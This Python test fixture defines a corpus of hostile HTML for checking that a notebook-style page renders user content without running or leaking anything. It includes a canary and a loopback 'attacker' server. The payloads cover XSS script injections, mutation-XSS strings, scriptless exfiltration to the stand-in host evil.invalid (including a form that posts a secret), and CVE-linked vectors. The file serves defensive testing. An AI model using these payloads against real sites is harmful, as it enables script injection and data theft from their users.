"""Hostile HTML: what a page must show and never obey, for every place that shows what users or strangers wrote.

Each text calls `canary()` of the outermost page where a script runs, or asks the host `EVIL` for something.
Sources: PortSwigger's XSS cheat sheet, papers and bug reports on mutation XSS, and the advisories that are named.
"""

from __future__ import annotations

import base64
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING, Final

if TYPE_CHECKING:
    from playwright.sync_api import Page as Tab

#: Stands for the address of a server of the attacker.
EVIL: Final = "http://evil.invalid"
#: Why requests failed that asked nobody: the policy of the page, or their frame went away meanwhile, and sometimes the
#: reason with it.
_BLOCKED: Final = ("csp", "net::ERR_ABORTED", "unknown")
#: Begins the paths of the attacker's server.
_OURS: Final = "/evil"
_CALL: Final = "top.canary()"
_NESTED: Final = base64.b64encode(f"<script>{_CALL}</script>".encode()).decode()
_SVG: Final = base64.b64encode(
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_CALL}"><script>{_CALL}</script>'
    f'<image href="{EVIL}/svg-image"/></svg>'.encode()
).decode()

#: Scripts, in all the places where a page may find one.
SCRIPTS: Final = {
    "script": f"<script>{_CALL}</script>",
    "script of another host": f'<script src="{EVIL}/x.js"></script>',
    "module": f'<script type="module">import "{EVIL}/m.js"; {_CALL}</script>',
    "script in upper case": f"<SCRIPT>{_CALL}</SCRIPT >",
    "script that is not closed": f"<script>{_CALL}//",
    "script within a script": f"<scr<script></script>ipt>{_CALL}</scr<script></script>ipt>",
    "script with a slash": f"<script/x>{_CALL}</script>",
    "script after a null": f"<scr\x00ipt>{_CALL}</scr\x00ipt>",
    "image error": f"<img src=x onerror={_CALL}>",
    "image error, slashes": f"<img/src=x/onerror={_CALL}>",
    "image error, in entities": '<img src=x onerror="&#116;op.canary&lpar;&rpar;">',
    "body load": f"<body onload={_CALL}>",
    "page show": f"<body onpageshow={_CALL}>",
    "details toggle": f"<details open ontoggle={_CALL}>x</details>",
    "autofocus": f"<input autofocus onfocus={_CALL}>",
    "autofocus of anything": f"<div tabindex=0 autofocus onfocus={_CALL}>x</div>",
    "video error": f'<video><source onerror="{_CALL}"></video>',
    "audio": f"<audio src=x onerror={_CALL}></audio>",
    "marquee": f"<marquee onstart={_CALL}>x</marquee>",
    "animation": f"<style>@keyframes x{{}}</style><b style='animation:x 1ms' onanimationstart={_CALL}>x</b>",
    "content visibility": f"<div oncontentvisibilityautostatechange={_CALL} style='content-visibility:auto'>x</div>",
    "custom element": f"<x-y onclick={_CALL} style='position:fixed;inset:0'>x</x-y>",
    "link of javascript": f'<a href="javascript:{_CALL}">click</a>',
    "link of javascript with a tab": f'<a href="java\tscript:{_CALL}">click</a>',
    "link of javascript in entities": f'<a href="&#106;avascript&colon;{_CALL}">click</a>',
    "link of data": f'<a href="data:text/html;base64,{_NESTED}">click</a>',
    "link into the outer page": f'<a target=_top href="javascript:{_CALL}">click</a>',
    "frame of javascript": f'<iframe src="javascript:{_CALL}"></iframe>',
    "frame with its own document": f"<iframe srcdoc='<script>{_CALL}</script>'></iframe>",
    "frame of data": f'<iframe src="data:text/html;base64,{_NESTED}"></iframe>',
    "object": f'<object data="data:text/html;base64,{_NESTED}"></object>',
    "embed": f'<embed src="data:text/html;base64,{_NESTED}">',
    "button of a form": f'<form><button formaction="javascript:{_CALL}">click</button></form>',
    "svg load": f"<svg onload={_CALL}></svg>",
    "svg script": f"<svg><script>{_CALL}</script></svg>",
    "svg script of another host": f'<svg><script href="{EVIL}/s.js"></script></svg>',
    "svg animation of a link": f'<svg><a><animate attributeName=href values="javascript:{_CALL}"/>'
    "<text y=9>click</text></a>",
    "svg foreign object": f"<svg><foreignObject><img src=x onerror={_CALL}></foreignObject></svg>",
    "svg use": f'<svg><use href="data:image/svg+xml;base64,{_SVG}#x"/></svg>',
    "svg as image": f'<img src="data:image/svg+xml;base64,{_SVG}">',
    "math link": f'<math><maction actiontype=statusline xlink:href="javascript:{_CALL}">click</maction></math>',
}

#: What is harmless until it is parsed a second time.
MUTATIONS: Final = {
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={_CALL}>">',
    "style in math": f"<math><mtext><table><mglyph><style><!--</style>"
    f"<img title='--&gt;&lt;img src=x onerror={_CALL}&gt;'>",
    "svg style": f"<svg></p><style><a id='</style><img src=1 onerror={_CALL}>'>",
    "form in form": f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style>"
    f"<img onerror={_CALL} src=x>'>",
    "title in svg": f"<svg><title><style><img title='</style><img src=x onerror={_CALL}>'></title></svg>",
    "template": f"<template><img src=x onerror={_CALL}></template>",
    "declarative shadow root": f"<div><template shadowrootmode=open><img src=x onerror={_CALL}></template></div>",
    "textarea": f"<textarea></textarea><img src=x onerror={_CALL}></textarea>",
    "xmp": f"<xmp><p title='</xmp><img src=x onerror={_CALL}>'>",
    "comment": f"<!--><img src=x onerror={_CALL}>-->",
    "processing instruction": f"<?xml ><img src=x onerror={_CALL}>?>",
    "cdata": f"<svg><![CDATA[><img src=x onerror={_CALL}>]]></svg>",
    "out of the document": f"</body></html><script>{_CALL}</script>",
    "out of an attribute": f"\"'><script>{_CALL}</script>",
    "out of a title": f"</title></style></textarea></script><script>{_CALL}</script>",
}

#: What tells somebody, without a script.
LEAKS: Final = {
    "image": f'<img src="{EVIL}/image.png">',
    "image by srcset": f'<img srcset="{EVIL}/set.png 1x">',
    "image of a host alone": '<img src="//evil.invalid/host.png">',
    "picture": f'<picture><source srcset="{EVIL}/source.png"><img></picture>',
    "background": f'<div style="background:url({EVIL}/style.png)">x</div>',
    "background of a table": f'<table background="{EVIL}/table.png"><tr><td>x</td></tr></table>',
    "cursor and list": f"<ul style=\"cursor:url({EVIL}/c),auto;list-style:url('{EVIL}/l')\"><li>x</ul>",
    "styles that read a field": f"<style>input[value^=a]{{background:url({EVIL}/a)}}</style><input value=abc>",
    "styles of another host": f"<style>@import '{EVIL}/i.css';</style><link rel=stylesheet href={EVIL}/l.css>",
    "font": f"<style>@font-face{{font-family:x;src:url({EVIL}/f)}}</style><b style='font-family:x'>x</b>",
    "image set": f"<b style=\"background:image-set('{EVIL}/is' 1x)\">x</b>",
    "refresh": f'<meta http-equiv=refresh content="0;url={EVIL}/refresh">',
    "refresh to a script": f'<meta http-equiv=refresh content="0;url=data:text/html;base64,{_NESTED}">',
    "looser policy": "<meta http-equiv=Content-Security-Policy content=\"default-src * 'unsafe-inline'\">"
    f'<img src="{EVIL}/loose.png">',
    "base": f'<base href="{EVIL}/"><img src=based.png>',
    "prefetch": f'<link rel=prefetch href="{EVIL}/p"><link rel=dns-prefetch href="//evil.invalid">'
    f'<link rel=preload as=image href="{EVIL}/q">',
    "frame": f'<iframe src="{EVIL}/frame"></iframe>',
    "frame of a portal": f'<fencedframe src="{EVIL}/fenced"></fencedframe><portal src="{EVIL}/portal"></portal>',
    "media": f'<video src="{EVIL}/v" poster="{EVIL}/poster" autoplay muted></video>'
    f'<audio src="{EVIL}/a" autoplay></audio>',
    "track": f'<video muted><track default src="{EVIL}/track"></video>',
    "object of another host": f'<object data="{EVIL}/o"></object><embed src="{EVIL}/e">',
    "svg image": f'<svg><image href="{EVIL}/i"/><use href="{EVIL}/u#x"/><filter><feImage href="{EVIL}/fe"/>'
    f"</filter></svg>",
    "form that sends itself": f'<form action="{EVIL}/form" id=f><input name=q value=secret><button>send</button>'
    f"</form>",
    "button of another form": f'<button form=f formaction="{EVIL}/f2">click</button>',
    "link": f'<a href="{EVIL}/link" ping="{EVIL}/ping">click</a>',
    "link over everything": f'<a href="{EVIL}/all" style="position:fixed;inset:0;z-index:9">x</a>',
    "image map": f'<img usemap=#m src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" width=99 height=99>'
    f'<map name=m><area shape=rect coords="0,0,99,99" href="{EVIL}/area"></map>',
}

#: The advisories of Jupyter and of others.
ADVISORIES: Final = {
    "CVE-2026-42557 command linker": '<button data-commandlinker-command="filebrowser:open-path" '
    'data-commandlinker-args="{}">click</button>',
    "CVE-2024-43805 clobbering": "<form id=body name=documentElement><input name=attributes id=defaultView></form>"
    '<a id=MathJax></a><a id=MathJax name=config href="clobbered:x">x</a>',
    "CVE-2024-22420 markdown preview": f'<div data-mime-type="text/html" class="jp-mod-active">'
    f"<img class=x onerror={_CALL} src></div>",
    "CVE-2021-32797 form action": f'<form id=jp-form action="javascript:{_CALL}"><button form=jp-form>click</button>'
    f'</form><label for=y>click</label><input id=y type=submit form=jp-form formaction="javascript:{_CALL}">',
    "CVE-2018-8768 parsed again": f'<img alt="<x" title="/><img src=x onerror={_CALL}>">',
    "CVE-2026-44727 file in a frame": f'<iframe src="/files/evil.html"></iframe><script>{_CALL}</script>',
    "Pluto 3607 blob": f"<iframe id=b></iframe><script>b.src=URL.createObjectURL(new Blob(['<script>{_CALL}"
    f"<\\/script>']))</script>",
    "notebookjs 58 no sanitizer": f"<table><tr><td><img src=`x`onerror={_CALL}></td></tr></table>",
}

HOSTILE_HTML: Final[dict[str, str]] = SCRIPTS | MUTATIONS | LEAKS | ADVISORIES


class Witness:
    """Sees whether anything of the corpus was obeyed: by a canary in the page, and as the attacker's server."""

    def __init__(self) -> None:
        self.asked_for: list[str] = []
        self.origin = ""

    def armed(self, html: str) -> str:
        """The same text, which asks a server that listens."""
        return html.replace(EVIL, self.origin).replace("//evil.invalid", self.origin.removeprefix("http:"))

    def watch(self, tab: Tab) -> None:
        """Give the page its canary; to be called before it is loaded."""
        tab.add_init_script("window.called = 0; window.canary = () => { window.called += 1; };")
        tab.on("dialog", lambda dialog: self.asked_for.append(f"dialog {dialog.message}"))
        tab.on("popup", lambda popup: self.asked_for.append(f"popup {popup.url}"))
        tab.on("requestfinished", lambda request: self._note(request.url))
        tab.on("requestfailed", lambda request: self._note(request.url, request.failure or "unknown"))

    def _note(self, url: str, failure: str = "") -> None:
        if failure in _BLOCKED or (failure and self.origin in url):
            return  # asked of the browser, which asked nobody: our own server would have seen it
        if self.origin in url or "evil.invalid" in url:
            self.asked_for.append(url)

    def nothing_happened(self, tab: Tab, what: str = "") -> None:
        """Nothing ran, nobody was told, and the page is where and what it was."""
        assert tab.evaluate("window.called") == 0, what
        assert self.asked_for == [], f"{what}: {self.asked_for}"
        assert len(tab.context.pages) == 1, what


@contextmanager
def witness() -> Iterator[Witness]:
    """The server of an attacker, on loopback, until the block ends."""
    seen = Witness()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            if self.path.startswith(_OURS):  # whoever else comes looks for what had this port before
                seen.asked_for.append(f"arrived {self.path}")
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_HEAD = do_OPTIONS = do_GET  # noqa: N815 - names of the base class

        def log_request(self, code: object = "-", size: object = "-") -> None:
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    seen.origin = f"http://127.0.0.1:{server.server_address[1]}{_OURS}"
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield seen
    finally:
        server.shutdown()
        server.server_close()
        thread.join()
